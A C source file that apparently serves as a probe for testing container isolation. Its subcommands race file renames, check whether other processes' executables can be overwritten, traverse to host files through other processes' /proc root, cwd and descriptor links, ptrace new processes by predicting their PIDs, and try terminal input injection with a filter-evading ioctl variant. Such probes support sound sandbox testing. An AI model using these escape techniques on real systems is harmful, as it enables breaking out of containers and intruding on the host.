/* What hostile code in a container, or beside it on a shared volume, does.
   exchange A B MILLISECONDS: exchanges two names almost without a pause; prints how often
   executables MILLISECONDS:  opens every /proc/PID/exe, waits until it may be opened for writing, and writes back its first byte
   intrude MILLISECONDS TEXT: looks for a file TEXT through cwd, root and descriptors of every other process, and tries to trace it
   catch MILLISECONDS:        traces every new process at its birth; prints its permitted and bounding capabilities and its seccomp mode
   terminal:                  result of TIOCSTI and TIOCLINUX on descriptor 0, with their other spelling in the high bits */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define HELD 256

static long now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec * 1000 + time.tv_nsec / 1000000;
}

static int exchange(const char *a, const char *b, long until) {
  long count = 0;
  while (now() < until) {
    for (int i = 0; i < 64; i++, count++)
      if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2) < 0) return 1;
    /* Those who are raced with must get on, on a machine with few processors too. */
    usleep(50);
  }
  printf("%ld\n", count);
  return 0;
}

static int is_number(const char *name) { return name[0] >= '1' && name[0] <= '9'; }

/* 1 when a byte of it could be written: the same byte, so that nothing is lost. */
static int is_writable(int fd) {
  char path[64], byte;
  snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
  int writing = open(path, O_WRONLY | O_CLOEXEC);
  if (writing < 0) return 0;
  int done = pread(fd, &byte, 1, 0) == 1 && pwrite(writing, &byte, 1, 0) == 1;
  close(writing);
  return done;
}

static int held[HELD], held_count;

static void hold(const char *pid, const struct stat *own) {
  char path[300];
  struct stat stat;
  snprintf(path, sizeof(path), "/proc/%s/exe", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  int known = fstat(fd, &stat) < 0 || stat.st_dev == own->st_dev;
  for (int i = 0; i < held_count && !known; i++) {
    struct stat other;
    known = fstat(held[i], &other) == 0 && other.st_ino == stat.st_ino && other.st_dev == stat.st_dev;
  }
  if (known || held_count == HELD)
    close(fd);
  else
    held[held_count++] = fd;
}

/* The root file system of the container is a tmpfs of its own, so whatever is of another one is not the container's. */
static int executables(long until) {
  struct stat own;
  if (stat("/bin/busybox", &own) < 0) return 1;
  puts("ready");
  fflush(stdout);
  while (now() < until) {
    DIR *all = opendir("/proc");
    for (struct dirent *each; (each = readdir(all)) != NULL;)
      if (is_number(each->d_name)) hold(each->d_name, &own);
    closedir(all);
    for (int i = 0; i < held_count; i++) {
      char path[64], name[300] = {0};
      if (!is_writable(held[i])) continue;
      snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
      if (readlink(path, name, sizeof(name) - 1) > 0) printf("writable %s\n", name);
      return 0;
    }
  }
  printf("saw %d\n", held_count);
  return 0;
}

static void look(int folder, const char *what, const char *text) {
  char path[600];
  /* From any folder of the host the way up leads to its root. */
  snprintf(path, sizeof(path), "../../../../../../../../../../%s", text);
  int fd = openat(folder, path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  printf("reached by %s\n", what);
  close(fd);
}

static void try_one(const char *pid, const char *text) {
  char path[600];
  static const char *const links[] = {"root", "cwd"};
  for (int i = 0; i < 2; i++) {
    snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
    int folder = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (folder < 0) continue;
    look(folder, links[i], text);
    close(folder);
  }
  for (int n = 0; n < 40; n++) {
    snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, n);
    int folder = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (folder < 0) continue;
    look(folder, "descriptor", text);
    close(folder);
  }
}

/* Whether a process runs a program of this root; one that has become that meanwhile is no catch. */
static int is_own(const char *pid, char *name, size_t size) {
  char path[300];
  memset(name, 0, size);
  snprintf(path, sizeof(path), "/proc/%s/exe", pid);
  return readlink(path, name, size - 1) > 0 && strncmp(name, "/bin/", 5) == 0;
}

static void trace(const char *pid) {
  char name[300];
  if (is_own(pid, name, sizeof(name))) return;
  if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) < 0) return;
  int status = 0;
  /* One that ends before it stops has no name any more; it was not caught. */
  if (ptrace(PTRACE_INTERRUPT, atoi(pid), NULL, NULL) == 0 && waitpid(atoi(pid), &status, __WALL) > 0 &&
      WIFSTOPPED(status) && !is_own(pid, name, sizeof(name)))
    printf("traced %s\n", name[0] != 0 ? name : "what hides its name");
  ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
}

static int intrude(long until, const char *text) {
  int self = (int)getpid();
  long seen = 0;
  puts("ready");
  fflush(stdout);
  while (now() < until) {
    DIR *all = opendir("/proc");
    for (struct dirent *each; (each = readdir(all)) != NULL;) {
      if (!is_number(each->d_name) || atoi(each->d_name) == self || atoi(each->d_name) == 1) continue;
      seen++;
      try_one(each->d_name, text);
      trace(each->d_name);
    }
    closedir(all);
  }
  printf("looked %s\n", seen > 0 ? "at others" : "at nobody");
  return 0;
}

static void status_field(const char *pid, const char *name, char *value, size_t size) {
  char path[64], line[256];
  snprintf(path, sizeof(path), "/proc/%s/status", pid);
  FILE *file = fopen(path, "re");
  snprintf(value, size, "?");
  while (file != NULL && fgets(line, sizeof(line), file) != NULL)
    if (strncmp(line, name, strlen(name)) == 0) snprintf(value, size, "%.32s", strtok(line + strlen(name), ":\t\n"));
  if (file != NULL) fclose(file);
}

/* Holds it where it is; one that has become a program of this root, or has ended, is no catch. */
static void catch_one(int pid) {
  char number[16], name[300], permitted[40], bounding[40], seccomp[40];
  int status = 0;
  snprintf(number, sizeof(number), "%d", pid);
  int held = ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, &status, __WALL) > 0 && WIFSTOPPED(status);
  if (held && !is_own(number, name, sizeof(name)) && name[0] != 0) {
    status_field(number, "CapPrm", permitted, sizeof(permitted));
    status_field(number, "CapBnd", bounding, sizeof(bounding));
    status_field(number, "Seccomp:", seccomp, sizeof(seccomp));
    printf("caught %s %s %s\n", permitted, bounding, seccomp);
    fflush(stdout);
  }
  ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

/* Numbers are given one after the other, so the next ones are known before anybody has them. */
static int catch(long until) {
  int next = (int)getpid() + 1;
  puts("ready");
  fflush(stdout);
  while (now() < until) {
    for (int pid = next; pid < next + 4; pid++) {
      if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) continue;
      catch_one(pid);
      next = pid + 1;
    }
  }
  return 0;
}

static int terminal(void) {
  static const unsigned long high = 1UL << 32;
  char byte = 'x', paste = 3;
  int results[] = {ioctl(0, 0x5412, &byte), (int)syscall(SYS_ioctl, 0, 0x5412 | high, &byte), ioctl(0, 0x541c, &paste),
                   (int)syscall(SYS_ioctl, 0, 0x541c | high, &paste)};
  printf("%d %d %d %d\n", results[0], results[1], results[2], results[3]);
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 5 && strcmp(argv[1], "exchange") == 0) return exchange(argv[2], argv[3], now() + atol(argv[4]));
  if (argc == 3 && strcmp(argv[1], "executables") == 0) return executables(now() + atol(argv[2]));
  if (argc == 4 && strcmp(argv[1], "intrude") == 0) return intrude(now() + atol(argv[2]), argv[3]);
  if (argc == 3 && strcmp(argv[1], "catch") == 0) return catch(now() + atol(argv[2]));
  if (argc == 2 && strcmp(argv[1], "terminal") == 0) return terminal();
  return 2;
}
